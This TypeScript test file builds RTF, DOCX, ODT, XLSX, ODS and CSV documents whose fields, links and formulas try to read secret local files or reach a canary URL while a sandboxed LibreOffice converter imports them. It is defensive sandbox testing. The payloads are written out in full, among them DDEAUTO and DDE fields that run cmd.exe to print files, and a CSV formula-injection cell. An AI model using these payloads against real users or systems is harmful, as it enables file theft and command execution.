import { docx, escapeXml, field, odt, para, xlsx, zip } from './build.js';
import { caseGroup, type HostileCase } from './harness.js';

/**
 * Office field codes and links that read a local file or fetch a URL while LibreOffice imports a
 * document: one case per vector, each naming the secret files and the canary listener. LibreOffice
 * runs in its own mount namespace as an unprivileged user (src/run/confine.ts), so a field that
 * is resolved anyway finds nothing to read, and in a network namespace, so it reaches nothing.
 */

const office = caseGroup('office field', {
  engine: 'libreoffice',
  allowed: { output: true, codes: ['MALFORMED_DOCUMENT', 'CONVERT_FAILED'] },
});

const rtf = (body: string) => `{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Helvetica;}}${body}\\par}`;
const rtfField = (instruction: string) => `{\\field{\\*\\fldinst ${instruction}}{\\fldrslt cached}}\\par `;

const SETTINGS_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';

/** A docx whose settings attach a template by relationship (Word fetches it on open). */
function docxWithTemplate(target: string): Promise<Buffer> {
  return docx(para('templated'), '', {
    'word/settings.xml': `<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rIdT"/><w:linkStyles/></w:settings>`,
    'word/_rels/settings.xml.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="${SETTINGS_REL}" Target="${escapeXml(target)}" TargetMode="External"/></Relationships>`,
  });
}

/** A docx with a linked (not embedded) OLE object pointing at `target`. */
function docxOleLink(target: string): Promise<Buffer> {
  const body = `<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="s1" style="width:40pt;height:40pt"/><o:OLEObject Type="Link" ProgID="Package" ShapeID="s1" DrawAspect="Content" r:id="rIdO" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r></w:p>`;
  const rels = `<Relationship Id="rIdO" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="${escapeXml(target)}" TargetMode="External"/>`;
  return docx(para('ole link') + body, rels);
}

/** A docx importing an external chunk (altChunk) or a subdocument by relationship. */
function docxPart(kind: 'aFChunk' | 'subDocument', target: string): Promise<Buffer> {
  const element = kind === 'aFChunk' ? '<w:altChunk r:id="rIdC"/>' : '<w:p><w:subDoc r:id="rIdC"/></w:p>';
  const rels = `<Relationship Id="rIdC" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${escapeXml(target)}" TargetMode="External"/>`;
  return docx(para('part') + element, rels);
}

/** An ODS spreadsheet with the given table XML (linked tables, DDE links, formulas). */
function ods(table: string, bodyExtra = ''): Promise<Buffer> {
  const content = `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.2"><office:body><office:spreadsheet>${bodyExtra}${table}</office:spreadsheet></office:body></office:document-content>`;
  return zip(
    {
      mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
      'META-INF/manifest.xml': `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
      'content.xml': content,
    },
    ['mimetype'],
  );
}

const formulaCell = (formula: string) =>
  `<table:table-cell table:formula="${escapeXml(formula)}" office:value-type="string" office:string-value="cached"><text:p>cached</text:p></table:table-cell>`;

function odsFormulas(formulas: string[]): Promise<Buffer> {
  return ods(
    `<table:table table:name="Sheet1"><table:table-row>${formulas.map(formulaCell).join('')}</table:table-row></table:table>`,
  );
}

export const fieldCases: HostileCase[] = [
  office(
    'rtf INCLUDEPICTURE of a local picture, to pdf',
    'the outside suite: a local picture embedded into the PDF from the server disk',
    'rtf',
    'pdf',
    (c) => rtf(`linked ${rtfField(`INCLUDEPICTURE "${c.files.png}" \\\\d`)}`),
  ),
  office(
    'rtf INCLUDEPICTURE of a remote picture, to pdf',
    'an RTF picture field fetching the canary URL',
    'rtf',
    'pdf',
    (c) => rtf(rtfField(`INCLUDEPICTURE "${c.url}pic.png" \\\\d`)),
  ),
  office(
    'rtf INCLUDETEXT of a local file, to pdf',
    'an RTF text field pulling the secret text in',
    'rtf',
    'pdf',
    (c) => rtf(rtfField(`INCLUDETEXT "${c.files.txt}"`)),
  ),
  office(
    'rtf remote template, to pdf',
    'an RTF \\template naming the canary URL',
    'rtf',
    'pdf',
    (c) => `{\\rtf1\\ansi{\\*\\template ${c.url}template.dot}templated\\par}`,
  ),
  office(
    'rtf local template, to docx',
    'an RTF \\template naming the secret file',
    'rtf',
    'docx',
    (c) => `{\\rtf1\\ansi{\\*\\template ${c.files.txt}}templated\\par}`,
  ),
  office(
    'rtf linked picture (\\\\*\\\\linkself), to pdf',
    'an RTF picture linked to the secret PNG by file URL',
    'rtf',
    'pdf',
    (c) =>
      rtf(
        `{\\field{\\*\\fldinst INCLUDEPICTURE "file://${c.files.png}"}{\\fldrslt{\\pict\\pngblip\\picw1\\pich1 00}}}`,
      ),
  ),
  office(
    'docx INCLUDEPICTURE of a local picture, to pdf',
    'a Word picture field naming the secret PNG',
    'docx',
    'pdf',
    (c) => docx(field(`INCLUDEPICTURE "${c.files.png}" \\d`, 'pic')),
  ),
  office(
    'docx INCLUDETEXT of a local file, to pdf',
    'a Word text field naming the secret text',
    'docx',
    'pdf',
    (c) => docx(field(`INCLUDETEXT "${c.files.txt}"`, 'cached')),
  ),
  office(
    'docx remote attached template, to pdf',
    'settings.xml attaching a template at the canary URL',
    'docx',
    'pdf',
    (c) => docxWithTemplate(`${c.url}template.dotm`),
  ),
  office(
    'docx local attached template, to pdf',
    'settings.xml attaching the secret file as template',
    'docx',
    'pdf',
    (c) => docxWithTemplate(`file://${c.files.txt}`),
  ),
  office(
    'docx OLE link to a local file, to pdf',
    'a linked OLE object on the secret file',
    'docx',
    'pdf',
    (c) => docxOleLink(`file://${c.files.txt}`),
  ),
  office('docx OLE link to a URL, to pdf', 'a linked OLE object on the canary URL', 'docx', 'pdf', (c) =>
    docxOleLink(`${c.url}ole.bin`),
  ),
  office(
    'docx altChunk from a local file, to pdf',
    'an external chunk import of the secret',
    'docx',
    'pdf',
    (c) => docxPart('aFChunk', `file://${c.files.txt}`),
  ),
  office(
    'docx subdocument on a local file, to txt',
    'a master document pulling in the secret',
    'docx',
    'txt',
    (c) => docxPart('subDocument', `file://${c.files.txt}`),
  ),
  office(
    'docx DDEAUTO and DDE fields, to pdf',
    'dynamic data exchange fields that would run a program or read a file',
    'docx',
    'pdf',
    (c) =>
      docx(
        field(`DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k type ${c.files.txt}"`, 'x') +
          field(`DDE soffice "${c.files.txt}" "A1"`, 'y'),
      ),
  ),
  office(
    'docx linked picture to a local file, to txt',
    'a picture relationship on the secret PNG (text output)',
    'docx',
    'txt',
    (c) =>
      docx(
        `${para('x')}<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape style="width:8pt;height:8pt"><v:imagedata src="file://${c.files.png}"/></v:shape></w:pict></w:r></w:p>`,
      ),
  ),
  office('odt linked image on a local file, to pdf', 'a draw:image on the secret PNG', 'odt', 'pdf', (c) =>
    odt(
      `<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="file://${c.files.png}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`,
    ),
  ),
  office(
    'odt linked section on a local file, to pdf',
    'a text:section-source on the secret file',
    'odt',
    'pdf',
    (c) =>
      odt(
        `<text:section text:name="S1"><text:section-source xlink:href="file://${c.files.txt}" xlink:type="simple" text:filter-name="Text"/><text:p>cached</text:p></text:section>`,
      ),
  ),
  office(
    'odt OLE link on a local file, to pdf',
    'a draw:object linked to the secret file',
    'odt',
    'pdf',
    (c) =>
      odt(
        `<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:object xlink:href="file://${c.files.txt}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`,
      ),
  ),
  office(
    'odt include fields on a local file, to txt',
    'a DDE connection declared in the document and a field showing it',
    'odt',
    'txt',
    (c) =>
      odt(
        `<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="soffice" office:dde-topic="${c.files.txt}" office:dde-item="all" office:automatic-update="true" xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/></text:dde-connection-decls><text:p><text:dde-connection text:connection-name="d">cached</text:dde-connection></text:p>`,
      ),
  ),
  office(
    'xlsx INDIRECT of an external file, to pdf',
    'an external reference opened on recalculation',
    'xlsx',
    'pdf',
    (c) => xlsx({ A1: `=INDIRECT("'file://${c.files.txt}'#$Sheet1.A1")` }),
  ),
  office('xlsx WEBSERVICE, to pdf', 'a formula fetching the canary URL', 'xlsx', 'pdf', (c) =>
    xlsx({ A1: `=WEBSERVICE("${c.url}ws")`, B1: `=FILTERXML(WEBSERVICE("${c.url}fx"),"//x")` }),
  ),
  office('xlsx DDE formula, to ods', 'a DDE formula naming the secret file', 'xlsx', 'ods', (c) =>
    xlsx({ A1: `=DDE("soffice";"${c.files.txt}";"A1")`, B1: `=DDE("cmd";"/c type ${c.files.txt}";"A0")` }),
  ),
  office(
    'xlsx external workbook link, to ods',
    'an externalLink part whose relationship names the secret file',
    'xlsx',
    'ods',
    (c) =>
      xlsx(
        { A1: '=[1]Sheet1!A1' },
        {
          'xl/externalLinks/externalLink1.xml': `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
          'xl/externalLinks/_rels/externalLink1.xml.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file://${c.files.txt}" TargetMode="External"/></Relationships>`,
        },
      ),
  ),
  office(
    'ods linked sheet on a local file, to xlsx',
    'a table:table-source linking the secret file',
    'ods',
    'xlsx',
    (c) =>
      ods(
        `<table:table table:name="Sheet1"><table:table-source table:mode="copy-all" xlink:href="file://${c.files.txt}" xlink:type="simple" table:filter-name="Text - txt - csv (StarCalc)" table:refresh-delay="PT1S"/><table:table-row><table:table-cell><text:p>cached</text:p></table:table-cell></table:table-row></table:table>`,
      ),
  ),
  office(
    'ods DDE link and formulas, to xlsx',
    'a table:dde-source and DDE/WEBSERVICE formulas',
    'ods',
    'xlsx',
    (c) =>
      odsFormulas([
        `of:=DDE("soffice";"${c.files.txt}";"A1")`,
        `of:=WEBSERVICE("${c.url}ods")`,
        `of:=INDIRECT("'file://${c.files.txt}'#$Sheet1.A1")`,
      ]),
  ),
  office(
    'csv with DDE and WEBSERVICE cells, to xlsx',
    'CSV cells that are DDE and fetching formulas (formula injection)',
    'csv',
    'xlsx',
    (c) =>
      `a,b,c\n=DDE("soffice";"${c.files.txt}";"A1"),=WEBSERVICE("${c.url}c"),"=cmd|' /c type ${c.files.txt}'!A0"\n`,
  ),
];
